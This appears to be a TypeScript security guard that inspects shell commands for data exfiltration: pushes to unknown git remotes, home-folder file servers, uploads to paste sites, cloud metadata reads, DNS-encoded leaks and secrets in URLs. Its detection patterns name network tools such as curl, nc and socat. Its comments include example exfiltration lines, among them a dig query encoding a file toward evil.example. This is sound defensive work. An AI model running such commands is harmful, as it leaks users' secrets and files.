import { namesIn, tableOf } from "../../../src/protocol/json/table.ts";
import { UNKNOWN } from "../../../src/shell/unknown.ts";
import type { Call, CommandPlace, Input, Word } from "../command/call.ts";
import { type Connection, connectionOfUrl, connectionsOf } from "../command/connections.ts";
import type { Examined } from "../examine.ts";
import { type Finding, type Guard, type GuardContext, strictest } from "../guard.ts";
import { readRules } from "./command-rules.ts";
import hostTable from "./egress/hosts.json" with { type: "json" };
import table from "./egress/rules.json" with { type: "json" };
import { isSecretName, secretCopies } from "./secrets/environment.ts";
import { realSecretsIn } from "./secrets/real-secrets.ts";
import { sendsInput } from "./secrets/shown-output.ts";

const RULES = readRules(table);
const HOSTS = tableOf<Readonly<Record<"metadata" | "paste" | "known", string>>>(hostTable);

export const egress: Guard = { ...RULES.guard, judgeCall: judge, judgeAll: judgeAddresses };

function judge(call: Call, { commands, place }: GuardContext): Finding | null {
  const found = connectionsOf(call).map((connection) => judgeConnection(connection, call));
  const secret = secretIn(commands.join("\n"));
  return strictest([
    lookedUp(call, secret),
    ...found,
    secretInAddress(call, secret),
    pushed(call, commands),
    served(call, place),
  ]);
}

/** `git push` to an address that is no known host, or that the same command gives to a remote. */
function pushed(call: Call, commands: readonly string[]): Finding | null {
  const { program, args, source } = call;
  const at = program === "git" ? args.findIndex(({ text }) => text === "push") : -1;
  if (at < 0) return null;
  const set = commands.flatMap((text) =>
    [...text.matchAll(/\bgit\b[^\n;&|]*\bremote\s+(?:add|set-url)\s+[^\n;&|]*/g)].flatMap(([one]) => one.split(/\s+/)),
  );
  const places = [...args.slice(at + 1).map(({ text }) => text), ...set].flatMap((text) => {
    const host = /^(?:[a-z+]+:\/\/)?(?:[^@/\s]+@)?([\w-]+(?:\.[\w-]+)+)[:/]/.exec(text)?.[1];
    return host === undefined ? [] : [{ host: host.toLowerCase(), port: null }];
  });
  const other = places.find((one) => !isHost(one, "known"));
  return other === undefined
    ? null
    : RULES.find("upload-file", source, { effect: `sends the repository to ${other.host}` });
}

const SERVES =
  /^(?:http\.server|SimpleHTTPServer|-S|httpd|serve|http-server|static-web-server|miniserve|dufs|darkhttpd|webfs|caddy)$/;

/** A server of files for a folder above the project: `python3 -m http.server --directory ~`. */
function served({ program, args, folder, source }: Call, { home, project }: CommandPlace): Finding | null {
  if (![program, ...args.map(({ text }) => text)].some((text) => SERVES.test(text))) return null;
  if (!/^(?:python[\d.]*|php|npx|busybox|ruby|serve|http-server|httpd|miniserve|dufs|caddy)$/.test(program))
    return null;
  const folders = args.map(({ text }) => text.replace(/^--?[\w-]+=/, "")).filter((text) => text.startsWith("/"));
  const served = folders.length > 0 ? folders : [folder ?? ""];
  const isWide = served.some(
    (path) => path === "/" || path === home || (project !== path && project.startsWith(`${path}/`)),
  );
  return isWide
    ? RULES.find("upload-file", source, { effect: "exposes a folder with the person's files to other machines" })
    : null;
}

function judgeConnection(connection: Connection, call: Call): Finding | null {
  if (isHost(connection, "metadata")) return RULES.find("read-metadata", call.source);
  const isSent = connection.isUpload || readsInput(call);
  if (isSent && isHost(connection, "paste")) return RULES.find("send-to-paste-site", call.source);
  return isSent && sendsLocalData(call) && !isHost(connection, "known")
    ? RULES.find("upload-file", call.source, { effect: `sends local data to ${connection.source}` })
    : null;
}

/** The host itself, or one below it. */
const isHost = ({ host }: Pick<Connection, "host">, kind: keyof typeof HOSTS): boolean =>
  namesIn(HOSTS[kind]).some((name) => host === name || host.endsWith(`.${name}`));

const TRANSFERS = /^(?:curl|curlie|wget|http|https|xh|nc|ncat|netcat|socat|telnet|mailx?|sendmail|mutt)$/;
const IS_INPUT = /@-$|=@-$/;
const IS_FILE = /^@|=@|^(?:-T|--upload-file|--post-file|--body-file)(?:=|$)/;

const readsInput = (call: Call): boolean =>
  (call.input.kind === "pipe" || call.input.kind === "file") && hasData(call.input) && sendsInput(call);

/** True if a file is among the arguments, or the input is sent. Copies by scp and rsync are how programs are installed. */
const sendsLocalData = (call: Call): boolean =>
  TRANSFERS.test(call.program) &&
  (readsInput(call) ||
    call.args.some(({ text }) => IS_FILE.test(text) && !(IS_INPUT.test(text) && !hasData(call.input))));

/** True for an input that is not written out in the command: `printf 'GET / HTTP/1.0' | nc host 80` sends nothing of this machine. */
function hasData(input: Input): boolean {
  if (input.kind === "none") return true;
  if (input.kind === "text") return input.text.includes(UNKNOWN);
  if (input.kind === "file") return !/^\/dev\/(?:null|zero)$/.test(input.file.text);
  return input.from.length === 0 || !input.from.every(isWrittenOut);
}

const isWrittenOut = ({ program, args, input }: Call): boolean =>
  (/^(?:echo|printf|print|true|:|sleep)$/.test(program) && !args.some(({ text }) => text.includes(UNKNOWN))) ||
  (program === "cat" && args.length === 0 && !hasData(input));

const LOOKS_UP = /^(?:dig|nslookup|host|drill|getent|kdig|delv|ping6?)$/;

/** `dig $(cat x | base64).evil.example` */
function lookedUp({ program, args, source }: Call, secret: SecretIn): Finding | null {
  const isData = ({ text, printedBy, source: written }: Word): boolean =>
    /\0.*\./s.test(text) && (printedBy.length > 0 || secret(written) !== null);
  return LOOKS_UP.test(program) && args.some(isData) ? RULES.find("send-by-name", source) : null;
}

/** The variable with a secret that a word expands. */
type SecretIn = (source: string) => string | null;

const secretIn = (command: string): SecretIn => {
  const copies = secretCopies(command);
  return (source) =>
    [...source.matchAll(/\$\{?([A-Za-z_]\w*)/g)]
      .map(([, name = ""]) => name)
      .find((name) => isSecretName(name) || copies.has(name)) ?? null;
};

/** `curl "https://…/?k=$API_KEY"`; a header is for the service itself. */
function secretInAddress({ program, args, source }: Call, secret: SecretIn): Finding | null {
  if (!TRANSFERS.test(program)) return null;
  const isExposed = ({ text, source: written }: Word): boolean =>
    /^["']?[a-z]+:\/\//i.test(written) && (secret(written) !== null || realSecretsIn(text).length > 0);
  return args.some(isExposed) ? RULES.find("secret-in-address", source) : null;
}

/** The addresses of web tools and of servers. */
function judgeAddresses({ addresses }: Examined): ReturnType<NonNullable<Guard["judgeAll"]>> {
  return addresses.flatMap((address) => {
    const connection = connectionOfUrl(address) ?? connectionOfUrl(`https://${address}`);
    const isMetadata = connection !== null && isHost(connection, "metadata");
    const rule = isMetadata ? "read-metadata" : realSecretsIn(address).length > 0 ? "secret-in-address" : null;
    return rule === null ? [] : [{ finding: RULES.find(rule, address), about: { call: null, file: null } }];
  });
}
